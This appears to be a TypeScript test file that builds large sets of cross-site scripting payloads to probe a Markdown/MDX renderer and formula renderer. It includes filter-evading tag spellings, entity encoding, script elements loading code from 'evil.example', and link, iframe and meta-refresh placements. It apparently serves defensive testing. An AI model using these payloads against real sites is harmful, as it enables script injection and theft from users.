/**
 * Attacks on a page that is made from Markdown with tags, written out from the families
 * that are published: each family is a few lists multiplied with each other. Every one of
 * them calls `__pwned`, opens a dialog, or asks another host for something.
 */
import { componentCases, quoted, type ComponentCases, type Place } from '../components.ts';
import { addresses } from './payload-addresses.ts';
import { breakouts, handlers, SCRIPT, tags } from './payload-parts.ts';
import { mutations, styles } from './payload-mutations.ts';
import { expressions, modules } from './payload-programs.ts';

interface Payload {
  family: string;
  source: string;
  /** Read with formulas. */
  math?: true;
}

export function payloads(): Payload[] {
  const all = Object.entries(families).flatMap(([family, make]) =>
    make().map((source): Payload => ({
      family,
      source,
      ...(family === 'formula' ? { math: true } : {}),
    })),
  );
  return [...new Map(all.map((one) => [`${one.family} ${one.source}`, one])).values()];
}

const families: Record<string, () => string[]> = {
  'tag and handler': () =>
    tags.flatMap((tag, t) =>
      handlers.flatMap((handler, h) => {
        const write = spellings[(t + h) % spellings.length] ?? jsx;
        return [write(tag, handler), jsx(tag, handler)];
      }),
    ),
  'tag in a place': () =>
    ['script', 'iframe', 'svg', 'style', 'object', 'img', 'form', 'a'].flatMap((tag) =>
      places.map((place) => place(jsx(tag, 'onload'))),
    ),
  'script element': () =>
    scriptElements.flatMap((one) => [one, ...places.map((place) => place(one))]),
  address: () => addresses.flatMap((address) => addressPlaces.map((place) => place(address))),
  mutation: () =>
    mutations.flatMap((one) => [one, entities(one), `\`${one}\``, `> ${one}`, `- ${one}`]),
  style: () => styles.flatMap((one) => [one, entities(one)]),
  breakout: () => breakouts.flatMap((one) => breakoutPlaces.map((place) => place(one))),
  program: () => expressions.flatMap((one) => programPlaces.map((place) => place(one))),
  module: () => modules.flatMap((one) => [one, `一\n${one}`, `> ${one}`, `- ${one}`, `# ${one}`]),
  formula: () => formulas,
};

/** The ways a tag with a handler is spelled so that filters of text do not see it. */
const spellings: ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}=${SCRIPT}>`,
  (tag, handler) => `<${tag} src=x ${handler}="${SCRIPT}">x</${tag}>`,
  (tag, handler) => `<${tag} src=x ${handler}='${SCRIPT}'>`,
  (tag, handler) => `<${tag.toUpperCase()} SRC=x ${handler.toUpperCase()}=${SCRIPT}>`,
  (tag, handler) => `<${tag}/src=x/${handler}=${SCRIPT}>`,
  (tag, handler) => `<${tag}\n${handler}\n=\n"${SCRIPT}"\n>`,
  (tag, handler) => `<${tag}\t${handler}=${SCRIPT}//`,
  (tag, handler) => `<${tag} x="<" ${handler}="${entities(SCRIPT)}">`,
  (tag, handler) => `<<${tag} ${handler}=${SCRIPT}//<`,
  (tag, handler) => `"><${tag} ${handler}=${SCRIPT} autofocus tabindex=1>`,
  (tag, handler) => `</p><${tag} ${handler}="${SCRIPT}"></${tag}><p>`,
  (tag, handler) => `<${tag} ${handler}={${SCRIPT}} />`,
  (tag, handler) => `<${tag} {...{${handler}: "${SCRIPT}"}} />`,
  (tag, handler) => `&lt;${tag} ${handler}="${SCRIPT}"&gt;`,
  (tag, handler) => `\\<${tag} ${handler}="${SCRIPT}">`,
];

/** The same as a well-formed element, which a parser of tags accepts. */
function jsx(tag: string, handler: string): string {
  return `<${tag} src="x" ${handler}="${SCRIPT}" autofocus="" tabindex="1"></${tag}>`;
}

/** Every character as a reference, by turns decimal, hexadecimal and padded. */
function entities(text: string): string {
  return [...text]
    .map((one, i) => {
      const code = one.codePointAt(0) ?? 0;
      return [`&#${code};`, `&#x${code.toString(16)};`, `&#0000${code};`][i % 3];
    })
    .join('');
}

const places: Place[] = [
  (inner) => `一 ${inner} 二`,
  (inner) => `## ${inner}`,
  (inner) => `- ${inner}`,
  (inner) => `> ${inner}`,
  (inner) => `| a |\n|---|\n| ${inner} |`,
  (inner) => `**${inner}**`,
  (inner) => `[${inner}](https://a.cn)`,
  (inner) => `[^1]\n\n[^1]: ${inner}`,
  (inner) => `<details>\n<summary>${inner}</summary>\n\n一\n\n</details>`,
  ...inComponents('tags'),
];

const scriptElements = [
  `<script>${SCRIPT}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src="//evil.example/x.js" />`,
  `<script type="module">import 'https://evil.example/x.js'</script>`,
  `<ScRiPt>${SCRIPT}</sCrIpT>`,
  `<script\u0020>${SCRIPT}</script\u0020>`,
  `<script/x>${SCRIPT}</script>`,
  `<script x>${SCRIPT}</script x>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><script href="data:,${SCRIPT}" /></svg>`,
  `<math><script>${SCRIPT}</script></math>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<noscript><p title="</noscript><script>${SCRIPT}</script>"></p></noscript>`,
  `<script>{\`${SCRIPT}\`}</script>`,
  `<script dangerouslySetInnerHTML={{__html: "${SCRIPT}"}} />`,
  `<script set:html="${SCRIPT}" />`,
  `<script is:inline>${SCRIPT}</script>`,
  `<Script>${SCRIPT}</Script>`,
  `<Fragment set:html="<script>${SCRIPT}</script>" />`,
  `<!--><script>${SCRIPT}</script>-->`,
  `<![CDATA[><script>${SCRIPT}</script>]]>`,
  `<?xml ><script>${SCRIPT}</script>?>`,
  `<!DOCTYPE x [<!ENTITY y "<script>${SCRIPT}</script>">]>`,
];

const addressPlaces: Place[] = [
  (address) => `[点](${address})`,
  (address) => `[点](<${address}>)`,
  (address) => `[点](${address} "标题")`,
  (address) => `[点][一]\n\n[一]: ${address}`,
  (address) => `[点][一]\n\n[一]: <${address}> '标题'`,
  (address) => `<${address}>`,
  (address) => address,
  (address) => `![图](${address})`,
  (address) => `![图][一]\n\n[一]: ${address}`,
  (address) => `[![图](./a.png)](${address})`,
  (address) => `[^1]\n\n[^1]: [点](${address})`,
  (address) => `| [点](${address}) |\n|---|`,
  (address) => `<a href="${quoted(address)}">点</a>`,
  (address) => `<iframe src="${quoted(address)}" />`,
  (address) => `<form action="${quoted(address)}"><button>点</button></form>`,
  (address) => `<svg><a xlink:href="${quoted(address)}"><text>点</text></a></svg>`,
  (address) => `<object data="${quoted(address)}" />`,
  (address) => `<base href="${quoted(address)}" />`,
  (address) => `<meta http-equiv="refresh" content="0;url=${quoted(address)}" />`,
  ...inComponents('addresses'),
];

function inComponents(kind: keyof ComponentCases['attacks']): Place[] {
  return [...componentCases.values()].flatMap(({ attacks }) => attacks[kind] ?? []);
}

/** Where a text of the writer's becomes a text, an attribute or an id of the page. */
const breakoutPlaces: Place[] = [
  (text) => text,
  (text) => `## ${text}`,
  (text) => `[点](https://a.cn "${text}")`,
  (text) => `[点](https://a.cn '${text}')`,
  (text) => `[点](https://a.cn/${text})`,
  (text) => `[点](<https://a.cn/${text}>)`,
  (text) => `[${text}](https://a.cn)`,
  (text) => `[点]: https://a.cn "${text}"\n\n[点]`,
  (text) => `https://a.cn/${text}`,
  (text) => `![${text}](./a.png)`,
  (text) => `![图](./a.png "${text}")`,
  (text) => `\`\`\`${text}\n一\n\`\`\``,
  (text) => `\`${text}\``,
  (text) => `\`\`\`js\n${text}\n\`\`\``,
  (text) => `[^${text}]\n\n[^${text}]: 一`,
  (text) => `| ${text} |\n| :-: |\n| ${text} |`,
  (text) => `- [x] ${text}`,
  (text) => `[点](/lessons/a/#${text})`,
  (text) => `[点](#${text})\n\n## ${text}`,
  ...inComponents('texts'),
];

const programPlaces: Place[] = [
  (program) => program,
  (program) => `一 ${program} 二`,
  (program) => `## ${program}`,
  (program) => `- ${program}`,
  (program) => `> ${program}`,
  (program) => `| ${program} |\n|---|`,
  (program) => `[${program}](https://a.cn)`,
  (program) => `[^1]\n\n[^1]: ${program}`,
  ...inComponents('programs'),
];

const formulas = [
  ...addresses.flatMap((address) => [
    `$\\href{${address}}{x}$`,
    `$\\url{${address}}$`,
    `$\\includegraphics{${address}}$`,
  ]),
  ...breakouts.flatMap((text) => [
    `$\\text{${text}}$`,
    `$$\n${text}\n$$`,
    `$\\htmlClass{${text}}{x}$`,
    `$\\htmlId{${text}}{x}$`,
    `$\\htmlStyle{${text}}{x}$`,
    `$\\htmlData{x=${text}}{x}$`,
    `$\\color{${text}}x$`,
    `$\\mathrm{${text}}\\unicode{60}$`,
    `$\\operatorname{${text}}\\tag{${text}}$`,
  ]),
];
